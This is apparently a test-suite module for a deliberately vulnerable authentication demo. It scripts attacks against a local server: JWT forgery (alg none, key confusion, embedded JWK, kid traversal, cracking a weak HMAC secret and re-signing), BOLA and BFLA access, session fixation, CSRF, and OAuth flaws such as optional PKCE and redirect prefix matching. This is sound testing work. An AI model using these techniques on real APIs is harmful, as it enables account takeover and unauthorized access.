import { createHmac, createPrivateKey, createPublicKey, type JsonWebKey } from 'node:crypto';
import { SignJWT } from 'jose';
import { demoSettings } from '../../src/server/demo-settings.js';
import type { SigningKeys } from '../../src/server/signing-keys.js';
import { forge } from '../../src/token/forge/forge.js';
import { readOriginal } from '../../src/token/forge/original.js';
import { mutationById } from '../../src/token/forge/registry.js';
import { wellKnownSecrets } from '../../src/token/well-known-secrets.js';
import { Browser } from './browser.js';
import type { BundledServer } from './bundled-server.js';
import { CHALLENGE, VERIFIER } from './test-issuer.js';
import { base64url } from './tokens.js';

/** A bundled server of the demo, and the key that it signs with: what an issuer of several APIs has. */
export interface Target extends BundledServer {
  readonly keys: SigningKeys;
}

/** Tries to use one weakness. @returns whether that gave what it must not. Looks at bodies: a status may be a lie. */
export type Attack = (target: Target) => Promise<boolean>;

type Members = Readonly<Record<string, unknown>>;

const seconds = () => Math.floor(Date.now() / 1000);

const names = (body: unknown): readonly unknown[] =>
  Array.isArray(body) ? body.map(({ username }) => username) : [];

/** Whom the API takes the sender of these headers for. */
async function me({ send }: Target, headers: Readonly<Record<string, string>>, path = '/me') {
  const { username, role } = (await send('GET', path, { headers })).body as Members;
  return { username, role };
}

export const tokenOf = async ({ bearer }: Target, username: string): Promise<string> =>
  (await bearer(username)).authorization.replace('Bearer ', '');

/** The tokens that `authctl forge` makes of agus's with one mutation, or with one variant of it. */
export async function forged(target: Target, id: string, variant = ''): Promise<readonly string[]> {
  const mutation = mutationById(id);
  if (!mutation) throw new Error(`there is no mutation ${id}`);
  const issuerKey = createPrivateKey({ key: target.keys.privateJwk as JsonWebKey, format: 'jwk' });
  const original = readOriginal(await tokenOf(target, 'agus'));
  const idToken = mutation.needs.includes('id-token')
    ? String((await byPassword(target)).id_token)
    : undefined;
  const publicKey = createPublicKey(issuerKey);
  const materials = { now: seconds(), issuerKey, publicKey, idToken, marker: 'marker' };
  return forge(original, [mutation], materials).forged.flatMap((token) =>
    variant === '' || token.id === `${id}:${variant}` ? [token.token] : [],
  );
}

export async function isTaken(target: Target, tokens: readonly string[]): Promise<boolean> {
  if (tokens.length === 0) throw new Error('nothing was forged');
  for (const token of tokens) {
    const { username } = await me(target, { authorization: `Bearer ${token}` });
    if (username === 'agus') return true;
  }
  return false;
}

const takes =
  (id: string, variant = ''): Attack =>
  async (target) =>
    isTaken(target, await forged(target, id, variant));

/** An authentic token of the issuer's that differs in some claims. */
const takesSigned =
  (changes: (now: number) => Members): Attack =>
  async (target) => {
    const { keys, server } = target;
    const now = seconds();
    const claims = {
      iss: server.issuer,
      sub: '2',
      aud: server.issuer,
      client_id: 'authctl',
      iat: now,
      exp: now + 60,
      jti: 'minted',
      ...changes(now),
    };
    const header = { alg: keys.alg, typ: 'at+jwt', kid: keys.kid };
    return isTaken(target, [await new SignJWT(claims).setProtectedHeader(header).sign(keys.privateKey)]);
  };

const asForm = (fields: Readonly<Record<string, string>>) => ({
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  body: new URLSearchParams({ client_id: 'authctl', ...fields }).toString(),
});

const tokenEndpoint = async (
  { send }: Target,
  fields: Readonly<Record<string, string>>,
): Promise<Members> => {
  const { body } = await send('POST', '/oauth/token', asForm(fields));
  return (typeof body === 'string' ? JSON.parse(body) : body) as Members;
};

const byPassword = (target: Target) =>
  tokenEndpoint(target, {
    grant_type: 'password',
    username: 'agus',
    password: 'agus-demo',
    scope: 'openid offline_access',
  });

const CALLBACK = 'http://127.0.0.1/callback';

/** Where an authorization request leads whose user needs no page. */
const authorized = ({ server }: Target, params: Readonly<Record<string, string>>): Promise<string> => {
  const query = new URLSearchParams({
    client_id: 'authctl',
    response_type: 'code',
    scope: 'openid',
    redirect_uri: CALLBACK,
    login_hint: 'agus',
    ...params,
  });
  return new Browser().follow(`${server.issuer}/oauth/authorize?${query}`);
};

/** By the id of the weakness that each uses. */
export const attacks: Readonly<Record<string, Attack>> = {
  async bfla({ send, bearer }) {
    return names((await send('GET', '/users', { headers: await bearer('agus') })).body).includes('sari');
  },
  async 'cookie-role'({ send, cookie }) {
    return names((await send('GET', '/users', { headers: await cookie('agus') })).body).includes('sari');
  },
  async bola({ send, bearer }) {
    const { body } = await send('GET', '/users/3', { headers: await bearer('agus') });
    return (body as Members).username === 'sari';
  },
  async unguarded({ send }) {
    const { body } = await send('GET', '/articles');
    return Array.isArray(body) && body.length > 0;
  },
  async 'stale-role'(target) {
    const headers = await target.bearer('sari');
    const { accounts, weaknesses } = target.server;
    const users = accounts.map((user) => (user.username === 'sari' ? { ...user, role: 'reader' } : user));
    target.server.configure({ ...demoSettings, users, weaknesses });
    return (await me(target, headers)).role === 'admin';
  },
  async 'role-header'(target) {
    return (await me(target, { ...(await target.bearer('agus')), 'x-role': 'admin' })).role === 'admin';
  },
  async 'method-override'({ send, bearer }) {
    const headers = { ...(await bearer('agus')), 'x-http-method-override': 'DELETE' };
    await send('GET', '/articles/1', { headers });
    const { body } = await send('GET', '/articles/1', { headers: await bearer('agus') });
    return (body as Members).id !== 1;
  },
  'alg-none': takes('none.none'),
  'hs256-public-key': takes('confusion.es-hs'),
  'signature-unchecked': takes('sig.garbage'),
  'audience-unchecked': takesSigned(() => ({ aud: 'https://other.example' })),
  'issuer-unchecked': takesSigned(() => ({ iss: 'https://other.example' })),
  'expiry-unchecked': takesSigned((now) => ({ exp: now - 3_600 })),
  async 'id-token-accepted'(target) {
    return isTaken(target, [String((await byPassword(target)).id_token)]);
  },
  async 'token-in-query'(target) {
    const path = `/me?access_token=${await tokenOf(target, 'agus')}`;
    return (await me(target, {}, path)).username === 'agus';
  },
  'embedded-jwk': takes('jwk.embed'),
  'kid-traversal': takes('kid.devnull'),
  async 'weak-secret'(target) {
    const [header, payload, signature] = (await tokenOf(target, 'agus')).split('.');
    const signed = (secret: string, input: string) =>
      createHmac('sha256', secret).update(input).digest('base64url');
    const secret = wellKnownSecrets.find((each) => signed(each, `${header}.${payload}`) === signature);
    if (secret === undefined) return false;
    const claims = JSON.parse(Buffer.from(payload ?? '', 'base64url').toString());
    const input = `${header}.${base64url(JSON.stringify({ ...claims, sub: '3' }))}`;
    const authorization = `Bearer ${input}.${signed(secret, input)}`;
    return (await me(target, { authorization })).username === 'sari';
  },
  async 'logout-keeps-session'(target) {
    const headers = await target.cookie('agus');
    await target.send('DELETE', '/session', { headers });
    return (await me(target, headers)).username === 'agus';
  },
  async 'session-fixation'(target) {
    const headers = { cookie: `session-${target.server.port}=planted-by-somebody-else` };
    await target.send('POST', '/session', { headers, json: { username: 'agus', password: 'agus-demo' } });
    return (await me(target, headers)).username === 'agus';
  },
  async csrf({ send, cookie }) {
    const headers = { ...(await cookie('william')), origin: 'https://evil.example' };
    const { body } = await send('POST', '/articles', { headers, json: { title: 'Forged', text: '' } });
    return (body as Members).title === 'Forged';
  },
  async 'refresh-reuse'(target) {
    const refresh_token = String((await byPassword(target)).refresh_token);
    const refresh = () => tokenEndpoint(target, { grant_type: 'refresh_token', refresh_token });
    await refresh();
    return 'access_token' in (await refresh());
  },
  async 'pkce-optional'(target) {
    const code = new URL(await authorized(target, {})).searchParams.get('code') ?? '';
    const fields = { grant_type: 'authorization_code', code, redirect_uri: CALLBACK };
    return 'access_token' in (await tokenEndpoint(target, fields));
  },
  async 'redirect-prefix'(target) {
    const redirect_uri = `${CALLBACK}/elsewhere`;
    const pkce = { code_challenge: CHALLENGE, code_challenge_method: 'S256' };
    const ended = await authorized(target, { ...pkce, redirect_uri });
    if (!ended.startsWith(redirect_uri)) return false;
    const code = new URL(ended).searchParams.get('code') ?? '';
    const fields = { grant_type: 'authorization_code', code, redirect_uri, code_verifier: VERIFIER };
    return 'access_token' in (await tokenEndpoint(target, fields));
  },
  async 'user-enumeration'({ send }) {
    const attempt = async (username: string) =>
      JSON.stringify((await send('POST', '/login', { json: { username, password: 'wrong' } })).body);
    return (await attempt('agus')) !== (await attempt('nobody'));
  },
  async 'soft-denial'({ send, bearer }) {
    const { status, body } = await send('DELETE', '/users/1', { headers: await bearer('agus') });
    return status === 200 && (body as Members).error === 'forbidden';
  },
  async 'excess-fields'({ send, bearer }) {
    const { body } = await send('GET', '/users/2', { headers: await bearer('agus') });
    return 'passwordHash' in (body as Members);
  },
  async head({ send, bearer }) {
    const seen = await send('HEAD', '/users');
    const entitled = await send('HEAD', '/users', { headers: await bearer('sari') });
    return seen.headers['content-length'] === entitled.headers['content-length'];
  },
  async 'trailing-slash'({ send }) {
    return names((await send('GET', '/users/')).body).includes('sari');
  },
  async 'mass-assignment'(target) {
    await target.send('PATCH', '/users/2', { headers: await target.bearer('agus'), json: { role: 'admin' } });
    return (await me(target, await target.bearer('agus'))).role === 'admin';
  },
};
